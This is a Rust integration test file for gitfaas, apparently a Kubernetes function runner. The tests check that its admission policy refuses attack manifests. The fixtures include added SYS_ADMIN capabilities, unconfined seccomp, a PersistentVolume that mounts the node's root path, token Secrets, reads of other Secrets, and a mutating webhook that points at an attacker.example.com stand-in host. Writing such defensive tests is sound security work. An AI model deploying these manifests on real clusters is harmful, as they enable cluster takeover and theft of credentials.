//! The policy against the real API server: each attack of the project's
//! issue 12 is refused with a 403 that names the object, the field and the
//! rule, and the object never reaches the API server.

use k8s_openapi::api::admissionregistration::v1::MutatingWebhookConfiguration;
use k8s_openapi::api::core::v1::{PersistentVolume, Secret};
use kube::api::{Api, DeleteParams, ListParams};

use crate::helpers::{config, spawn_app, spawn_app_with, TestApp, JOB};

/// JOB with `lines` added to its container, after `image: busybox`.
fn job_with_container(lines: &str) -> String {
    JOB.replace(
        "          image: busybox\n",
        &format!("          image: busybox\n{lines}"),
    )
}

/// Publishes `topic` and returns the refusal's message, asserting it is a 403.
async fn refused(app: &TestApp, topic: &str) -> String {
    let body = app.publish(topic, "", "x").await;
    assert_eq!(body.status, 403, "{topic}: {body}");
    body["message"]
        .as_str()
        .unwrap_or_else(|| panic!("{topic}: no message in {body}"))
        .to_string()
}

#[tokio::test]
async fn pod_attacks_are_refused_at_baseline_and_no_job_is_created() {
    let caps = job_with_container(
        "          securityContext:\n            capabilities:\n              add: [ALL, SYS_ADMIN]\n",
    );
    let seccomp = job_with_container(
        "          securityContext:\n            seccompProfile:\n              type: Unconfined\n",
    );
    let host_port = job_with_container(
        "          ports:\n            - containerPort: 80\n              hostPort: 80\n",
    );
    let foreign_sa = JOB.replace(
        "      restartPolicy: Never",
        "      restartPolicy: Never\n      serviceAccountName: someone-else",
    );
    let app = spawn_app(&[
        (
            "config.json",
            &config(&[
                ("caps", &["caps.yaml"]),
                ("seccomp", &["seccomp.yaml"]),
                ("hostport", &["hostport.yaml"]),
                ("sa", &["sa.yaml"]),
            ]),
        ),
        ("caps.yaml", &caps),
        ("seccomp.yaml", &seccomp),
        ("hostport.yaml", &host_port),
        ("sa.yaml", &foreign_sa),
    ])
    .await;
    let cases = [
        (
            "caps",
            "caps.yaml: Job/collect-",
            r#": spec.template.spec.containers[0].securityContext.capabilities.add: violates PodSecurity "baseline:latest": non-default capabilities (container "main" must not include "ALL", "SYS_ADMIN" in securityContext.capabilities.add); change the pod spec"#,
        ),
        (
            "seccomp",
            "seccomp.yaml: Job/collect-",
            r#": spec.template.spec.containers[0].securityContext.seccompProfile.type: violates PodSecurity "baseline:latest": seccompProfile (container "main" must not set securityContext.seccompProfile.type to "Unconfined")"#,
        ),
        (
            "hostport",
            "hostport.yaml: Job/collect-",
            r#": spec.template.spec.containers[0].ports[0].hostPort: violates PodSecurity "baseline:latest": hostPort (container "main" uses hostPort 80)"#,
        ),
        (
            "sa",
            "sa.yaml: Job/collect-",
            ": spec.template.spec.serviceAccountName: service account `someone-else` is not allowed (allowed: default); a function runs as its namespace's `default` service account unless gitfaas is started with the name in --allowed-service-accounts (GITFAAS_ALLOWED_SERVICE_ACCOUNTS)",
        ),
    ];
    for (topic, starts, says) in cases {
        let message = refused(&app, topic).await;
        assert!(message.starts_with(starts), "{topic}: {message}");
        assert!(message.contains(says), "{topic}: {message}");
    }
    assert_eq!(app.job_count().await, 0, "no attack reached the API server");
    app.cleanup().await;
}

#[tokio::test]
async fn privilege_escalation_as_root_is_refused_at_restricted_and_passes_baseline() {
    let escalating = job_with_container(
        "          securityContext:\n            allowPrivilegeEscalation: true\n            runAsUser: 0\n",
    );
    let files = [
        ("config.json", config(&[("root", &["root.yaml"])])),
        ("root.yaml", escalating),
    ];
    let files: Vec<(&str, &str)> = files.iter().map(|(n, t)| (*n, t.as_str())).collect();

    let restricted = spawn_app_with(&files, &["--pod-security", "restricted"]).await;
    let message = refused(&restricted, "root").await;
    assert!(
        message.contains(r#"violates PodSecurity "restricted:latest": allowPrivilegeEscalation != false (container "main" must set securityContext.allowPrivilegeEscalation=false), unrestricted capabilities (container "main" must set securityContext.capabilities.drop=["ALL"]), runAsNonRoot != true (pod or container "main" must set securityContext.runAsNonRoot=true), runAsUser=0 (container "main" must not set runAsUser=0), seccompProfile (pod or container "main" must set securityContext.seccompProfile.type to "RuntimeDefault" or "Localhost")"#),
        "{message}"
    );
    assert!(
        message
            .contains("spec.template.spec.containers[0].securityContext.allowPrivilegeEscalation"),
        "{message}"
    );
    assert!(
        message.contains("spec.template.spec.containers[0].securityContext.runAsUser"),
        "{message}"
    );
    assert_eq!(restricted.job_count().await, 0);
    restricted.cleanup().await;

    // Escalation and uid 0 are restricted's concern: the same Job breaks
    // nothing of baseline, so the default level applies it.
    let baseline = spawn_app(&files).await;
    let report = baseline.publish("root", "", "x").await;
    report.assert_status(202);
    let job = baseline.job(&report.first_object_name()).await;
    let sc = job
        .spec
        .and_then(|s| s.template.spec)
        .expect("pod spec")
        .containers[0]
        .security_context
        .clone()
        .expect("securityContext");
    assert_eq!(sc.allow_privilege_escalation, Some(true));
    assert_eq!(sc.run_as_user, Some(0));
    baseline.cleanup().await;
}

#[tokio::test]
async fn an_allowed_service_account_is_let_through() {
    let named = JOB.replace(
        "      restartPolicy: Never",
        "      restartPolicy: Never\n      serviceAccountName: builder",
    );
    let app = spawn_app_with(
        &[
            ("config.json", &config(&[("t", &["j.yaml"])])),
            ("j.yaml", &named),
        ],
        &["--allowed-service-accounts", "builder"],
    )
    .await;
    let report = app.publish("t", "", "x").await;
    report.assert_status(202);
    let job = app.job(&report.first_object_name()).await;
    let spec = job.spec.and_then(|s| s.template.spec).expect("pod spec");
    assert_eq!(spec.service_account_name.as_deref(), Some("builder"));
    app.cleanup().await;
}

#[tokio::test]
async fn cluster_power_kinds_are_refused_and_never_reach_the_api_server() {
    let unique = gitfaas::publish::random_suffix();
    let webhook_name = format!("gft-attack-{unique}");
    let volume_name = format!("gft-root-{unique}");
    let token = "apiVersion: v1\nkind: Secret\nmetadata:\n  name: token-{{RANDOM}}\n  annotations:\n    kubernetes.io/service-account.name: default\ntype: kubernetes.io/service-account-token\n";
    // Even if it got through, it would match no object (objectSelector) and
    // fail open: the shared control plane stays usable.
    let webhook = format!(
        r#"apiVersion: admissionregistration.k8s.io/v1
kind: MutatingWebhookConfiguration
metadata:
  name: {webhook_name}
webhooks:
  - name: steal.gitfaas.test
    admissionReviewVersions: ["v1"]
    sideEffects: None
    failurePolicy: Ignore
    clientConfig:
      url: https://attacker.example.com/mutate
    objectSelector:
      matchLabels:
        gitfaas.test/never: "true"
    rules:
      - apiGroups: ["*"]
        apiVersions: ["*"]
        operations: ["CREATE", "UPDATE"]
        resources: ["*/*"]
"#
    );
    let volume = format!(
        r#"apiVersion: v1
kind: PersistentVolume
metadata:
  name: {volume_name}
spec:
  capacity:
    storage: 1Gi
  accessModes: [ReadWriteOnce]
  persistentVolumeReclaimPolicy: Retain
  storageClassName: gitfaas-test-manual
  local:
    path: /
  nodeAffinity:
    required:
      nodeSelectorTerms:
        - matchExpressions:
            - key: kubernetes.io/hostname
              operator: Exists
"#
    );
    let app = spawn_app(&[
        (
            "config.json",
            &config(&[
                ("token", &["token.yaml"]),
                ("webhook", &["webhook.yaml"]),
                ("volume", &["volume.yaml"]),
            ]),
        ),
        ("token.yaml", token),
        ("webhook.yaml", &webhook),
        ("volume.yaml", &volume),
    ])
    .await;
    let cases = [
        (
            "token",
            "token.yaml: Secret/token-",
            ": a Secret of type kubernetes.io/service-account-token is a cluster-power kind, refused by policy",
            "--allow-kinds Secret/service-account-token (GITFAAS_ALLOW_KINDS)",
        ),
        (
            "webhook",
            "webhook.yaml: MutatingWebhookConfiguration/gft-attack-",
            ": kind MutatingWebhookConfiguration of API group admissionregistration.k8s.io is a cluster-power kind, refused by policy",
            "--allow-kinds MutatingWebhookConfiguration (GITFAAS_ALLOW_KINDS)",
        ),
        (
            "volume",
            "volume.yaml: PersistentVolume/gft-root-",
            ": kind PersistentVolume of the core API group is a cluster-power kind, refused by policy",
            "--allow-kinds PersistentVolume (GITFAAS_ALLOW_KINDS)",
        ),
    ];
    for (topic, starts, says, how) in cases {
        let message = refused(&app, topic).await;
        assert!(message.starts_with(starts), "{topic}: {message}");
        assert!(message.contains(says), "{topic}: {message}");
        assert!(message.contains(how), "{topic}: {message}");
    }

    let secrets: Api<Secret> = Api::namespaced(app.kube.clone(), &app.namespace);
    let tokens = secrets
        .list(&ListParams::default().fields("type=kubernetes.io/service-account-token"))
        .await
        .expect("list secrets");
    assert!(tokens.items.is_empty(), "{:?}", tokens.items);
    let webhooks: Api<MutatingWebhookConfiguration> = Api::all(app.kube.clone());
    let found_webhook = webhooks.get_opt(&webhook_name).await.expect("get webhook");
    let volumes: Api<PersistentVolume> = Api::all(app.kube.clone());
    let found_volume = volumes.get_opt(&volume_name).await.expect("get volume");
    // Clean up before asserting, so a failure does not leave them behind.
    if found_webhook.is_some() {
        let _ = webhooks
            .delete(&webhook_name, &DeleteParams::default())
            .await;
    }
    if found_volume.is_some() {
        let _ = volumes.delete(&volume_name, &DeleteParams::default()).await;
    }
    assert!(
        found_webhook.is_none(),
        "the webhook reached the API server"
    );
    assert!(found_volume.is_none(), "the volume reached the API server");
    app.cleanup().await;
}

#[tokio::test]
async fn allow_kinds_lets_exactly_the_named_kind_through() {
    let token = "apiVersion: v1\nkind: Secret\nmetadata:\n  name: token-{{RANDOM}}\n  annotations:\n    kubernetes.io/service-account.name: default\ntype: kubernetes.io/service-account-token\n";
    let app = spawn_app_with(
        &[
            ("config.json", &config(&[("token", &["token.yaml"])])),
            ("token.yaml", token),
        ],
        &["--allow-kinds", "Secret/service-account-token"],
    )
    .await;
    // The token controller deletes a token Secret whose service account
    // does not exist: wait for the fresh namespace's `default` one.
    let accounts: Api<k8s_openapi::api::core::v1::ServiceAccount> =
        Api::namespaced(app.kube.clone(), &app.namespace);
    crate::common::until(
        "the namespace's default service account",
        std::time::Duration::from_secs(30),
        || async {
            match accounts.get_opt("default").await {
                Ok(Some(_)) => crate::common::Step::Done(()),
                other => crate::common::Step::Wait(format!("{other:?}")),
            }
        },
    )
    .await;
    let report = app.publish("token", "", "x").await;
    report.assert_status(202);
    let secrets: Api<Secret> = Api::namespaced(app.kube.clone(), &app.namespace);
    let secret = secrets
        .get(&report.first_object_name())
        .await
        .expect("the allowed token Secret exists");
    assert_eq!(
        secret.type_.as_deref(),
        Some("kubernetes.io/service-account-token")
    );
    app.cleanup().await;
}

/// A Secret in the app's namespace, as the cluster admin (or another
/// tenant) keeps one there.
async fn create_secret(app: &TestApp, name: &str) {
    let secrets: Api<Secret> = Api::namespaced(app.kube.clone(), &app.namespace);
    let secret: Secret = serde_json::from_value(serde_json::json!({
        "apiVersion": "v1",
        "kind": "Secret",
        "metadata": {"name": name},
        "stringData": {"password": "hunter2"},
    }))
    .expect("secret");
    secrets
        .create(&kube::api::PostParams::default(), &secret)
        .await
        .expect("create the Secret");
}

/// The Jobs in the app's namespace, by name.
async fn job_names(app: &TestApp) -> Vec<String> {
    app.jobs()
        .list(&ListParams::default())
        .await
        .expect("list jobs")
        .items
        .into_iter()
        .filter_map(|j| j.metadata.name)
        .collect()
}

/// JOB reading (or mounting) the Secret `name` in each way a pod can.
fn secret_readers(name: &str) -> [(&'static str, String, &'static str); 3] {
    [
        (
            "envfrom",
            job_with_container(&format!(
                "          envFrom:\n            - secretRef:\n                name: {name}\n"
            )),
            "spec.template.spec.containers[0].envFrom[0].secretRef.name",
        ),
        (
            "keyref",
            JOB.replace(
                "          env:\n",
                &format!("          env:\n            - name: DB_PASSWORD\n              valueFrom:\n                secretKeyRef:\n                  name: {name}\n                  key: password\n"),
            ),
            "spec.template.spec.containers[0].env[0].valueFrom.secretKeyRef.name",
        ),
        (
            "mounted",
            JOB.replace(
                "      restartPolicy: Never\n",
                &format!("      restartPolicy: Never\n      volumes:\n        - name: creds\n          secret:\n            secretName: {name}\n"),
            ),
            "spec.template.spec.volumes[0].secret.secretName",
        ),
    ]
}

#[tokio::test]
async fn a_manifest_reads_no_secret_of_its_namespace_but_its_own_payload_secret() {
    let readers = secret_readers("db-creds");
    // The payload Secret of the request, and the one a caller names.
    let own = JOB.replace(
        "      restartPolicy: Never\n",
        "      restartPolicy: Never\n      volumes:\n        - name: payload\n          secret:\n            secretName: \"{{PAYLOAD_SECRET}}\"\n",
    );
    let named = JOB.replace(
        "      restartPolicy: Never\n",
        "      restartPolicy: Never\n      volumes:\n        - name: payload\n          secret:\n            secretName: \"{{victim}}\"\n",
    );
    let mut files: Vec<(String, String)> = readers
        .iter()
        .map(|(topic, job, _)| (format!("{topic}.yaml"), job.clone()))
        .collect();
    files.push(("own.yaml".into(), own));
    files.push(("named.yaml".into(), named));
    let config = config(&[
        ("envfrom", &["envfrom.yaml"]),
        ("keyref", &["keyref.yaml"]),
        ("mounted", &["mounted.yaml"]),
        ("own", &["own.yaml"]),
        ("named", &["named.yaml"]),
    ]);
    files.push(("config.json".into(), config));
    let files: Vec<(&str, &str)> = files
        .iter()
        .map(|(n, t)| (n.as_str(), t.as_str()))
        .collect();
    let app = spawn_app(&files).await;
    create_secret(&app, "db-creds").await;

    for (topic, _, path) in &readers {
        let body = app.publish(topic, "", "x").await;
        assert_eq!(body.status, 403, "{topic}: {body}");
        assert_eq!(body.code(), "policy_violation", "{topic}: {body}");
        let message = body.message();
        assert!(
            message.starts_with(&format!("{topic}.yaml: Job/collect-")),
            "{topic}: {message}"
        );
        assert!(
            message.contains(&format!(
                ": {path}: Secret `db-creds` is not allowed (allowed: this request's payload Secret `gitfaas-payload-"
            )),
            "{topic}: {message}"
        );
        assert!(
            message.contains("--allowed-secrets (GITFAAS_ALLOWED_SECRETS; names or prefix*)"),
            "{topic}: {message}"
        );
    }
    assert_eq!(
        job_names(&app).await,
        Vec::<String>::new(),
        "no reader of the Secret reached the API server"
    );

    // {{PAYLOAD_SECRET}} is the request's own: applied.
    let report = app.publish("own", "", "the body").await;
    report.assert_status(202);
    let own_job = report.first_object_name();
    let uid = report.request_uid();
    let own_secret = gitfaas::publish::payload_secret_name(&uid);
    let spec = app
        .job(&own_job)
        .await
        .spec
        .and_then(|s| s.template.spec)
        .expect("pod spec");
    let volume_secret = spec.volumes.expect("volumes")[0]
        .secret
        .as_ref()
        .and_then(|s| s.secret_name.clone());
    assert_eq!(volume_secret.as_deref(), Some(own_secret.as_str()));

    // That Secret, named by another request's caller: refused.
    let body = app
        .publish("named", &format!("victim={own_secret}"), "x")
        .await;
    body.assert_status(403);
    let message = body.message();
    assert!(
        message.contains(&format!(
            ": spec.template.spec.volumes[0].secret.secretName: Secret `{own_secret}` is not allowed: it is another request's payload Secret"
        )),
        "{message}"
    );
    assert_eq!(
        job_names(&app).await,
        vec![own_job],
        "only the own payload's Job"
    );
    app.cleanup().await;
}

#[tokio::test]
async fn allowed_secrets_lets_the_named_ones_through() {
    let readers = secret_readers("db-creds");
    let shared = secret_readers("shared-cache");
    let foreign = secret_readers("other-creds");
    let config = config(&[
        ("mounted", &["mounted.yaml"]),
        ("keyref", &["keyref.yaml"]),
        ("shared", &["shared.yaml"]),
        ("foreign", &["foreign.yaml"]),
    ]);
    let app = spawn_app_with(
        &[
            ("config.json", &config),
            ("mounted.yaml", &readers[2].1),
            ("keyref.yaml", &readers[1].1),
            ("shared.yaml", &shared[0].1),
            ("foreign.yaml", &foreign[2].1),
        ],
        &["--allowed-secrets", "db-creds,shared-*"],
    )
    .await;
    create_secret(&app, "db-creds").await;
    create_secret(&app, "other-creds").await;

    let report = app.publish("mounted", "", "x").await;
    report.assert_status(202);
    let spec = app
        .job(&report.first_object_name())
        .await
        .spec
        .and_then(|s| s.template.spec)
        .expect("pod spec");
    assert_eq!(
        spec.volumes.expect("volumes")[0]
            .secret
            .as_ref()
            .and_then(|s| s.secret_name.clone())
            .as_deref(),
        Some("db-creds")
    );
    for topic in ["keyref", "shared"] {
        let report = app.publish(topic, "", "x").await;
        assert_eq!(report.status, 202, "{topic}: {report}");
    }
    let before = job_names(&app).await;
    assert_eq!(before.len(), 3, "{before:?}");

    let message = refused(&app, "foreign").await;
    assert!(
        message.contains("spec.template.spec.volumes[0].secret.secretName: Secret `other-creds` is not allowed (allowed: this request's payload Secret `gitfaas-payload-"),
        "{message}"
    );
    assert!(message.contains(", `db-creds`, `shared-*`)"), "{message}");
    assert_eq!(job_names(&app).await, before, "the refused Job is absent");
    app.cleanup().await;
}

/// A Job whose pods would wear the Job controller's selector label (another
/// Job's uid, a query parameter here) is refused before anything is
/// applied: the Job controller would adopt such pods into that Job.
#[tokio::test]
async fn a_pod_wearing_the_job_controllers_label_is_refused_and_nothing_is_applied() {
    let wearer = JOB.replace(
        "  template:\n    spec:\n",
        "  template:\n    metadata:\n      labels:\n        batch.kubernetes.io/controller-uid: \"{{juid}}\"\n    spec:\n",
    );
    let app = spawn_app(&[
        ("config.json", &config(&[("wear", &["j.yaml"])])),
        ("j.yaml", &wearer),
    ])
    .await;
    let body = app
        .publish("wear", "juid=0b3e9d2c-8f61-4e0a-9a55-1c2b3d4e5f60", "x")
        .await;
    body.assert_error(403, "policy_violation");
    let message = body.message();
    assert!(
        message.contains(
            "spec.template.metadata.labels[batch.kubernetes.io/controller-uid]: the label `batch.kubernetes.io/controller-uid` is the Job controller's"
        ),
        "{message}"
    );
    assert!(job_names(&app).await.is_empty(), "the Job is absent");
    app.cleanup().await;
}
